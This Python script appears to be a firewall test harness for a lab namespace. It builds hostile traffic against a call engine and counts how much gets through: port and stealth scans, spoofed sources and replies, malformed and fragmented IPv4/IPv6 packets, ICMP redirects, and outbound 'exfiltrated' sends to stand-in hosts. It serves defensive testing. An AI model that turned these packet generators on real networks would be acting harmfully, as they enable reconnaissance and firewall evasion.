#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""What must not get through: attack.py list, or attack.py NAME inside the attacker's namespace.

NAME prints how many packets it sent, and exits with 1 if any of its connections was answered. Raw frames
carry a MAC address of their own, by which the captures find them however they are spoofed.
"""
import errno
import selectors
import socket
import struct
import sys
import time

from frames import (ACK, FIN, FRAGMENT, ICMP, ICMPV6, MORE_FRAGMENTS, PSH, RST, SYN, TCP, UDP, ethernet,
                    icmp, icmpv6, ip, ipv4, ipv6, rtp, tcp, udp)
from site_plan import (ENGINE, GATEWAY, IPV4, IPV6, MAC_ENGINE, MAC_INTRUDER, MAC_SITE, MAC_STRANGER,
                       MESSAGE_BUS, RTP_PORTS, SIP_PORT, STORAGE, STRANGER, WEB_PORTAL)

# A veth holds 256 packets: more at once and it is the wire that drops, not the enforcer.
BURST, PAUSE = 24, 0.001
WAIT = 1.5  # seconds in which a connection that is let through would have been answered

ATTACKS = {}
FAMILIES = (IPV4, IPV6)


def attack(where, words):
    def add(function):
        ATTACKS[function.__name__.replace("_", "-")] = (where, words, function)
        return function
    return add


def whole(mac, source, protocol, segment, destination=None):
    """A frame with a whole packet to the call engine."""
    destination = destination or (IPV6 if ":" in source else IPV4) % ENGINE
    return ethernet(mac, MAC_ENGINE, *ip(source, destination, protocol, segment(source, destination)))


def tcp_to_engine(mac, source, source_port, port, flags, payload=b""):
    return whole(mac, source, TCP, lambda s, d: tcp(s, d, source_port, port, flags, payload))


def udp_to_engine(mac, source, source_port, port, payload):
    return whole(mac, source, UDP, lambda s, d: udp(s, d, source_port, port, payload))


# ---------------------------------------------------------------- from outside


@attack("stranger", "TCP SYN to every port")
def port_scan():
    for port in range(1, 65536):
        yield tcp_to_engine(MAC_STRANGER, IPV4 % STRANGER, 40000, port, SYN)
    for port in range(1, 10001):
        yield tcp_to_engine(MAC_STRANGER, IPV6 % STRANGER, 40000, port, SYN)


@attack("stranger", "odd TCP flags: FIN, NULL, Xmas, ACK, SYN+FIN")
def stealth_scan():
    for family in FAMILIES:
        for flags in (FIN, 0, FIN | PSH | 32, ACK, SYN | FIN):
            for port in (22, 80, 443, 5060, 5672, 9005, 30000, 65535):
                yield tcp_to_engine(MAC_STRANGER, family % STRANGER, 40001, port, flags)


@attack("stranger", "RTP to every media port")
def rtp_spray():
    for port in RTP_PORTS:
        yield udp_to_engine(MAC_STRANGER, IPV4 % STRANGER, 40000, port, rtp(port))
    for port in RTP_PORTS[::8]:
        yield udp_to_engine(MAC_STRANGER, IPV6 % STRANGER, 40000, port, rtp(port))


@attack("stranger", "answers to nothing that was asked, as the site")
def spoofed_replies():
    servers = ((MESSAGE_BUS, 5672), (STORAGE, 9001), (WEB_PORTAL, 443))
    for family in FAMILIES:
        for host, service in servers:
            for port in range(20000, 20200):
                for flags in (SYN | ACK, ACK, RST):
                    yield tcp_to_engine(MAC_STRANGER, family % host, service, port, flags)
        for port in range(20000, 20200):
            yield udp_to_engine(MAC_STRANGER, family % GATEWAY, SIP_PORT, port, b"SIP/2.0 200 OK\r\n\r\n")


@attack("stranger", "impossible sources: own, loopback, multicast, 0/8")
def spoofed_sources():
    for source in (IPV4 % ENGINE, "127.0.0.1", "224.0.0.5", "0.0.0.0", "255.255.255.255",
                   IPV6 % ENGINE, "::1", "ff02::1"):
        for _ in range(25):
            yield tcp_to_engine(MAC_STRANGER, source, 40000, 9005, SYN)
            yield udp_to_engine(MAC_STRANGER, source, 40000, 30000, rtp(1))


@attack("stranger", "headers that lie or are cut short")
def malformed():
    here, there = IPV4 % WEB_PORTAL, IPV4 % ENGINE  # a pair that may talk
    syn = tcp(here, there, 40000, 9005, SYN)
    bad = [ipv4(here, there, TCP, syn, **lie) for lie in (
        {"ihl": 4}, {"ihl": 15}, {"version": 5}, {"total": 19}, {"total": 1500}, {"total": 30},
        {"fragment": MORE_FRAGMENTS | 8191})]
    bad += [ipv4(here, there, TCP, tcp(here, there, 40000, 9005, SYN, offset=n)) for n in (0, 4, 15)]
    bad += [ipv4(here, there, UDP, udp(here, there, 40000, 30000, b"x" * 9, length=n)) for n in (0, 7, 90)]
    bad += [ipv4(here, there, TCP, syn)[:length] for length in range(40)]
    for packet in bad:
        yield ethernet(MAC_STRANGER, MAC_ENGINE, 0x0800, packet)
    here, there = IPV6 % WEB_PORTAL, IPV6 % ENGINE
    syn = tcp(here, there, 40000, 9005, SYN)
    option = struct.pack("!BB", 60, 0) + b"\1\4\0\0\0\0"  # destination options, empty
    chain = option * 8 + struct.pack("!BB", TCP, 0) + option[2:]
    bad = [ipv6(here, there, TCP, syn, length=1400), ipv6(here, there, 60, chain + syn),
           ipv6(here, there, TCP, tcp(here, there, 40000, 9005, SYN, offset=2))]
    bad += [ipv6(here, there, TCP, syn)[:length] for length in range(60)]
    for packet in bad:
        yield ethernet(MAC_STRANGER, MAC_ENGINE, 0x86DD, packet)


@attack("stranger", "not IP at all: IPX, MPLS, PPPoE, three VLAN tags")
def other_protocols():
    for ethertype in (0x8137, 0x8847, 0x8864, 0x88B5):
        for _ in range(10):
            yield ethernet(MAC_STRANGER, MAC_ENGINE, ethertype, bytes(46))
    here, there = IPV4 % WEB_PORTAL, IPV4 % ENGINE
    packet = ipv4(here, there, TCP, tcp(here, there, 40000, 9005, SYN))
    tags = struct.pack("!HHHHH", 7, 0x8100, 8, 0x8100, 9) + struct.pack("!H", 0x0800)
    for _ in range(10):
        yield ethernet(MAC_STRANGER, MAC_ENGINE, 0x88A8, tags + packet)


@attack("stranger", "redirects, errors about nothing, ping, far neighbours")
def icmp_abuse():
    here, there = IPV4 % GATEWAY, IPV4 % ENGINE
    quoted = ipv4(there, IPV4 % STRANGER, TCP, tcp(there, IPV4 % STRANGER, 25, 25, SYN))
    messages = [icmp(5, 1, b"\xc0\0\2\x42", quoted), icmp(3, 3, payload=quoted), icmp(11, 0, payload=quoted),
                icmp(3, 4, b"\0\0\2\x40", b""), icmp(8, 0, b"\0\1\0\1", b"ping"), icmp(0, 0, b"\0\1\0\1"),
                icmp(13, 0, payload=bytes(12))]
    for message in messages * 10:
        yield ethernet(MAC_STRANGER, MAC_ENGINE, *ip(here, there, ICMP, message))
    here, there = IPV6 % GATEWAY, IPV6 % ENGINE
    quoted = ipv6(there, IPV6 % STRANGER, TCP, tcp(there, IPV6 % STRANGER, 25, 25, SYN))
    kinds = [(1, 4, quoted), (2, 0, quoted), (3, 0, quoted), (128, 0, b"ping"), (129, 0, b""), (137, 0, bytes(32)),
             (136, 0, bytes(16)), (134, 0, bytes(8))]  # the last two with a hop limit that crossed a router
    for kind, code, payload in kinds * 10:
        message = icmpv6(here, there, kind, code, payload=payload)
        yield ethernet(MAC_STRANGER, MAC_ENGINE, *ip(here, there, ICMPV6, message))


# ------------------------------------------------- from an intruder inside the site


@attack("site", "the gateway's address to ports that are not its own")
def gateway_turned():
    for family in FAMILIES:
        for port in list(range(1, 2001)) + [SIP_PORT, 9005]:
            yield udp_to_engine(MAC_INTRUDER, family % GATEWAY, 40000, port, b"INVITE sip:x SIP/2.0\r\n\r\n")
        for port in (22, 80, 5060, 9005, 30000):
            yield tcp_to_engine(MAC_INTRUDER, family % GATEWAY, 5060, port, SYN)


@attack("site", "the storage server's address to all but its own port")
def storage_turned():
    for family in FAMILIES:
        for port in list(range(1, 1001)) + [5060, 5672, 9001, 9004, 9006, 30000]:
            yield tcp_to_engine(MAC_INTRUDER, family % STORAGE, 40000, port, SYN)


@attack("site", "later fragments without a first, overlapping, tiny")
def fragments():
    here, there = IPV4 % WEB_PORTAL, IPV4 % ENGINE
    syn = tcp(here, there, 40000, 9005, SYN, b"x" * 20)
    for ident in range(1, 101):
        late = ipv4(here, there, TCP, b"y" * 64, ident=ident, fragment=100)
        yield ethernet(MAC_INTRUDER, MAC_ENGINE, 0x0800, late)
        tiny = ipv4(here, there, TCP, syn[:8], ident=1000 + ident, fragment=MORE_FRAGMENTS)
        yield ethernet(MAC_INTRUDER, MAC_ENGINE, 0x0800, tiny)
        refused = ipv4(here, there, UDP, b"z" * 64, ident=2000 + ident, fragment=MORE_FRAGMENTS)
        yield ethernet(MAC_INTRUDER, MAC_ENGINE, 0x0800, refused)
        # The overlap needs a first that is allowed, from the site's own MAC; it would rewrite the TCP header.
        first = ipv4(here, there, TCP, syn, ident=3000 + ident, fragment=MORE_FRAGMENTS)
        yield ethernet(MAC_SITE, MAC_ENGINE, 0x0800, first)
        overlap = ipv4(here, there, TCP, b"w" * 32, ident=3000 + ident, fragment=1)
        yield ethernet(MAC_INTRUDER, MAC_ENGINE, 0x0800, overlap)
    here, there = IPV6 % WEB_PORTAL, IPV6 % ENGINE
    for ident in range(1, 101):
        late = struct.pack("!BBHI", TCP, 0, 80 << 3, ident) + b"y" * 64
        yield ethernet(MAC_INTRUDER, MAC_ENGINE, 0x86DD, ipv6(here, there, FRAGMENT, late))
        tiny = struct.pack("!BBHI", TCP, 0, 1, 1000 + ident) + syn[:8]
        yield ethernet(MAC_INTRUDER, MAC_ENGINE, 0x86DD, ipv6(here, there, FRAGMENT, tiny))


# ------------------------------------------------------------- with real sockets


def try_to_connect(targets):
    """Opens all at once; gives how many tries there were and which were answered, with a RST too."""
    waiting = selectors.DefaultSelector()
    tries = answered = 0
    for address, port in targets:
        connection = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
        connection.setblocking(False)
        tries += 1
        if connection.connect_ex((address, port)) == errno.EINPROGRESS:
            waiting.register(connection, selectors.EVENT_WRITE, (address, port))
    until = time.monotonic() + WAIT
    while (left := until - time.monotonic()) > 0:
        for key, _ in waiting.select(left):
            waiting.unregister(key.fileobj)
            # An own SYN that was dropped on its way out can give an error too; that is no answer.
            if key.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) in (0, errno.ECONNREFUSED):
                answered += 1
                print(f"{key.data[0]} port {key.data[1]} answered", file=sys.stderr)
    return tries, answered


@attack("stranger", "real connections to the call engine's services")
def connections():
    ports = (22, 80, 443, 5060, 5672, 8001, 9001, 9005, 30000)
    return try_to_connect([(family % ENGINE, port) for family in FAMILIES for port in ports])


@attack("engine", "outgoing: what no row allows, as malware would")
def escape():
    targets = ((STRANGER, 25), (STRANGER, 443), (MESSAGE_BUS, 22), (STORAGE, 445), (GATEWAY, 9001))
    tries, answered = try_to_connect([(f % host, port) for f in FAMILIES for host, port in targets])
    for family, kind in ((IPV4, socket.AF_INET), (IPV6, socket.AF_INET6)):
        for host, port in ((STRANGER, 53), (STRANGER, 30000), (MESSAGE_BUS, 514), (GATEWAY, 161)):
            with socket.socket(kind, socket.SOCK_DGRAM) as sender:
                # Not from a media port: what the gateway may send to is what may be sent from.
                sender.bind((family % ENGINE, 10000 + port % 1000))
                tries += 1
                try:
                    sender.sendto(b"exfiltrated", (family % host, port))
                except OSError:
                    pass  # the kernel may tell the sender that it was dropped
    return tries, answered


@attack("engine", "outgoing: raw frames with another's source address")
def spoofed_escape():
    for family in FAMILIES:
        here, there = family % STORAGE, family % MESSAGE_BUS
        for _ in range(50):
            segment = tcp(here, there, 40000, 5672, SYN)
            yield ethernet(MAC_ENGINE, MAC_SITE, *ip(here, there, TCP, segment))


def send(frames):
    attacks = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        for count, frame in enumerate(frames, 1):
            try:
                wire.send(frame)
            except OSError as error:
                if error.errno != errno.ENOBUFS:  # dropped at egress: that is what is tested
                    raise
            attacks += frame[6:12] != bytes.fromhex(MAC_SITE.replace(":", ""))
            if count % BURST == 0:
                time.sleep(PAUSE)
    return attacks, 0


def main():
    if sys.argv[1] == "list":
        for name, (where, words, _) in ATTACKS.items():
            print(name, where, words, sep="\t")
        return 0
    result = ATTACKS[sys.argv[1]][2]()
    tries, answered = result if isinstance(result, tuple) else send(result)
    print(tries)
    return 1 if answered else 0


if __name__ == "__main__":
    sys.exit(main())
